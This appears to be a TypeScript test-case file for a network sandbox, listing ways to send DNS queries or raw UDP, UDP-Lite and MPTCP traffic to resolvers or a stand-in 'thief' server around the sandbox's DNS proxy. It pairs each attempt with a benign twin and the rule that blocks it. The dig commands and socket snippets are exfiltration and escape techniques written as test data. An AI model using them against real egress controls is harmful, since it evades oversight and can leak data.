import type { Row } from '../case.ts'
import { dig, python } from './script.ts'

const refused = 'names: led to our proxy whichever server is asked, `REFUSED`'
const ways = [
  ['public', '8.8.8.8', 'a public resolver'],
  ['configured', '192.0.2.53', 'the resolver behind the machine’s own'],
  ['private', '10.20.30.40', 'a resolver on a private address'],
  ['ipv6', '2001:db8:100::53', 'a resolver over IPv6'],
  ['loopback', '127.0.0.53', 'a stub on loopback'],
  ['loopback-other', '127.8.8.8', 'another loopback address'],
  ['link-local', 'fe80::ff:fe00:1%to-internet', 'a router’s link-local address'],
] as const

export const resolvers: Row = {
  row: 3,
  title: 'Asking another resolver',
  cases: [
    ...ways.map(([id, server, what]) =>
      Object.assign(
        {
          id: `resolver-${id}`,
          technique: `${what} (dig @${server})`,
          attempt: dig(`@${server} $HOST`),
          twin: dig(`$HOST`),
          by: refused,
        },
        id.startsWith('loopback') ? { cannot: 'nobody answers there without Runwarden' } : {},
      ),
    ),
    {
      id: 'resolver-mapped',
      technique: 'a resolver by an IPv4-mapped address (::ffff:198.51.100.53)',
      attempt: python(`
s = made(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(query(HOST), ('::ffff:198.51.100.53', 53))
raise SystemExit(9 if s.recv(512)[3] & 15 == 5 else 0)`),
      twin: python(`ask(query(HOST))`),
      by: refused,
    },
    {
      id: 'resolver-own-address',
      technique: 'the thief’s own server on port 53 (dig @)',
      attempt: dig('@$D4 $HOST'),
      twin: dig('$HOST'),
      by: refused,
    },
    {
      id: 'resolver-data',
      technique: 'bytes that are no DNS to UDP port 53 of the thief',
      attempt: python(`udp((D4, 53))`),
      twin: python(`ask(query(HOST))`),
      by: 'names: led to our proxy, which sends no such thing on',
      silent: 'no name that could be told',
    },
    {
      id: 'resolver-connected',
      technique: 'connected UDP socket to the thief’s port 53',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
s.connect((D4, 53))
s.send(query(HOST))
raise SystemExit(9 if s.recv(512)[3] & 15 == 5 else 0)`),
      twin: python(`
s = made(kind=socket.SOCK_DGRAM)
s.connect((resolver(), 53))
s.send(query(HOST))
s.recv(512)`),
      by: refused,
    },
    {
      id: 'resolver-sendmmsg',
      technique: 'two queries by one sendmmsg, the second to the thief (the C library’s way)',
      attempt: `$ACT udp-sendmmsg $D4 53; $ACT udp-sendmmsg $D6 53`,
      twin: 'getent ahosts $HOST',
      by: 'names: led to our proxy, which sends no such thing on',
      silent: 'no name that could be told',
    },
    {
      id: 'resolver-two-ports',
      technique: 'one UDP socket: first to our proxy by port 53, then to another port of the thief',
      attempt: `$ACT udp-two $D4 53 8080 | tee /dev/stderr | grep -q 'ok ok'`,
      twin: `$ACT udp-two $D4 53 8080`,
      by: 'connect: each datagram is decided by its own destination',
    },
    {
      id: 'resolver-udplite',
      technique: 'query by UDP-Lite to the machine’s resolver, and to the thief',
      attempt: python(`
for server in (D4, resolver()):
    s = made(kind=socket.SOCK_DGRAM, protocol=136)
    try: s.sendto(query(HOST), (server, 53))
    except PermissionError as error: print(error)`),
      twin: python(`ask(query(HOST))`),
      by: 'connect: the proxy is for UDP and TCP, all else is `EPERM`',
    },
    {
      id: 'resolver-mptcp',
      technique: 'query over MPTCP to the thief',
      attempt: python(`
s = made(protocol=262)
s.connect((D4, 53))
message = query(HOST)
s.sendall(struct.pack('!H', len(message)) + message)
raise SystemExit(9 if s.recv(512)[5] & 15 == 5 else 0)`),
      twin: dig('+tcp $HOST'),
      by: refused,
    },
    {
      id: 'resolver-source-port',
      technique: 'query from source port 53 as a server would send',
      as: ['root'],
      attempt: dig('-b 0.0.0.0#53 @$D4 $HOST'),
      twin: dig('-b 0.0.0.0#5300 $HOST'),
      by: refused,
    },
  ],
}
